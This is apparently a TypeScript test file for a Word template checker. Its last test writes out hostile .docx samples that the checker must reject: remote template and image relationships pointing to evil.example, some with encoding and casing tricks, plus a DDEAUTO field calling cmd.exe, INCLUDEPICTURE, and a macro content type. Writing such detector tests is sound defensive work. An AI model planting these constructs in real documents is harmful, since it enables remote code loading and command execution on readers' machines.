import assert from 'node:assert/strict'
import { test } from 'node:test'
import {
  Document,
  Footer,
  Header,
  Packer,
  Paragraph,
  Table,
  TableCell,
  TableRow,
  TextRun,
  type FileChild,
  type ISectionOptions,
} from 'docx'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { checkTemplate, fillTemplate, type TemplateField } from './template.ts'
import { textOfWord } from './compare.ts'

/** Templates as they come from people: each is told in one sentence what is wrong and what to do. */
const fields: TemplateField[] = [
  { tag: 'ten', label: { vi: 'Họ tên', en: 'Name' }, required: true },
  { tag: 'so', label: { vi: 'Số quyết định', en: 'Decision number' } },
  { tag: 'bang', label: { vi: 'Bảng', en: 'Table' }, parts: [{ tag: 'o1', label: { vi: 'Ô', en: 'Cell' } }] },
]

const line = (text: string) => new Paragraph(text)
const row = (...texts: string[]) => new TableRow({ children: texts.map((text) => new TableCell({ children: [line(text)] })) })

async function word(children: readonly FileChild[], more: Partial<ISectionOptions> = {}) {
  return new Uint8Array(await Packer.toBuffer(new Document({ sections: [{ ...more, children: [...children] }] })))
}

async function changed(change: (xml: string) => string) {
  const files = unzipSync(await word([line('{ten}')]))
  return zipSync({ ...files, 'word/document.xml': strToU8(change(strFromU8(files['word/document.xml'] ?? new Uint8Array()))) })
}

const atEnd = (more: string) => changed((xml) => xml.replace('</w:body>', `${more}</w:body>`))
const told = async (bytes: Uint8Array) => (await checkTemplate(bytes, fields)).problems.map(({ vi }) => vi).join(' ')

test('a field that Word cut into three runs is one field', async () => {
  const cut = new Paragraph({ children: [new TextRun('Tặng {t'), new TextRun({ text: 'e', bold: true }), new TextRun('n}')] })
  const bytes = await word([cut])
  assert.equal(await told(bytes), '')
  assert.equal(await textOfWord(await fillTemplate(bytes, { ten: 'Thị Mai' })), 'Tặng Thị Mai')
})

test('rows may be repeated across two rows of a table, but not out of it', async () => {
  assert.equal(await told(await word([line('{ten}'), new Table({ rows: [row('{#bang}{o1}', ''), row('', '{o1}{/bang}')] })])), '')
  assert.match(
    await told(await word([line('{ten}'), new Table({ rows: [row('{#bang}{o1}')] }), line('{/bang}')])),
    /Phần lặp “bang” mở trong một bảng mà đóng ở ngoài.*{#bang} và {\/bang} trong cùng một hàng/,
  )
})

test('fields in the header, the footer and a text box are read like all others', async () => {
  const header = { headers: { default: new Header({ children: [line('Số {soo}')] }) } }
  assert.match(await told(await word([line('{ten}')], header)), /“{soo}” không phải là ô.*“{so}”/)
  const footer = { footers: { default: new Footer({ children: [line('{so')] }) } }
  assert.match(await told(await word([line('{ten}')], footer)), /Ô mở bằng “{so” chưa có dấu đóng/)
  const box = '<w:p><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>{tenn}</w:t></w:r></w:p></w:txbxContent></w:pict></w:r></w:p>'
  assert.match(await told(await atEnd(box)), /“{tenn}” không phải là ô/)
})

test('a repeated part without an end is told how to end, and a closing brace alone is named', async () => {
  assert.match(await told(await word([line('{ten}'), line('{#bang}'), line('{o1}')])), /“bang” chưa có chỗ kết thúc: thêm {\/bang}/)
  assert.match(await told(await word([line('{ten}'), line('so}')])), /dấu đóng “so}” mà không có dấu mở/)
})

test('changes that nobody accepted would print old words: the template is sent back', async () => {
  const inserted = '<w:p><w:ins w:id="1" w:author="A" w:date="2026-01-01T00:00:00Z"><w:r><w:t>mới</w:t></w:r></w:ins></w:p>'
  assert.match(await told(await atEnd(inserted)), /vết sửa chưa chấp nhận/)
})

test('a torn file says that it is damaged, not that it lacks fields', async () => {
  assert.match(await told(await changed((xml) => xml.slice(0, -40))), /bị hỏng/)
})

test('an old Word file and one with a password are told apart, whatever they are named', async () => {
  const container = (inside: string) =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(inside, 'utf16le')])
  await assert.rejects(told(container('WordDocument')), /Word đời cũ \(\.doc\)/)
  await assert.rejects(told(container('EncryptedPackage')), /có đặt mật khẩu/)
})

test('thirty megabytes of picture are too large', async () => {
  const files = unzipSync(await word([line('{ten}')]))
  const heavy = zipSync({ ...files, 'word/media/image1.png': new Uint8Array(30 * 1024 * 1024).fill(7) }, { level: 0 })
  await assert.rejects(told(heavy), /Tệp quá lớn \(trên 20 MB/)
})

test('a file that would fetch or start something when Word opens it is sent back, however that is spelled', async () => {
  const files = unzipSync(await word([line('{ten}')]))
  const related = (xml: string, at = 'word/_rels/settings.xml.rels') =>
    zipSync({ ...files, [at]: strToU8(`<Relationships>${xml}</Relationships>`) })
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const strange = {
    'with simple quotes': related(
      `<Relationship Id='r' Type='${type}/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'/>`,
    ),
    'called a link by its address': related(
      `<Relationship Id="r" Type="${type}/attachedTemplate" Target="http://evil.example/hyperlink" TargetMode="External"/>`,
    ),
    'behind a sign': related(`<Relationship Id="r>" Type="${type}/image" Target="http://evil.example/x.png" TargetMode="External"/>`),
    'with spaces': related(`<Relationship Id="r" Type="${type}/image" Target="http://evil.example/x.png" TargetMode = "External"/>`),
    'under another prefix': related(`<x:Relationship Id="r" Type="${type}/frame" Target="http://evil.example/x" TargetMode="External"/>`),
    'in letters written as numbers': related(
      `<Relationship Id="r" Type="${type}/image" Target="http://evil.example/x" TargetMode="&#69;xternal"/>`,
    ),
    'in a part with large letters': related(
      `<Relationship Id="r" Type="${type}/image" Target="http://evil.example/x" TargetMode="External"/>`,
      'word/_rels/Settings.xml.RELS',
    ),
    'a page taken in': related(`<Relationship Id="r" Type="${type}/aFChunk" Target="evil.example.html"/>`),
    'a field that calls a program': await atEnd(
      '<w:p><w:r><w:instrText> DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\cmd.exe "evil.example"</w:instrText></w:r></w:p>',
    ),
    'a picture by a field': await atEnd('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/x.png"/></w:p>'),
  }
  for (const [how, bytes] of Object.entries(strange)) await assert.rejects(checkTemplate(bytes, fields), /evil\.example/, how)
  const renamed = zipSync({
    ...files,
    '[Content_Types].xml': strToU8('<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
  })
  await assert.rejects(checkTemplate(renamed, fields), /macro/)
  const link = `<Relationship Id="r" Type="${type}/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/>`
  assert.equal(await told(related(link)), '', 'a link that is clicked is no harm')
  assert.equal(
    await told(
      await atEnd('<w:p><w:fldSimple w:instr="PAGE"/><w:r><w:instrText>HYPERLINK "https://chinhphu.vn"</w:instrText></w:r></w:p>'),
    ),
    '',
  )
})
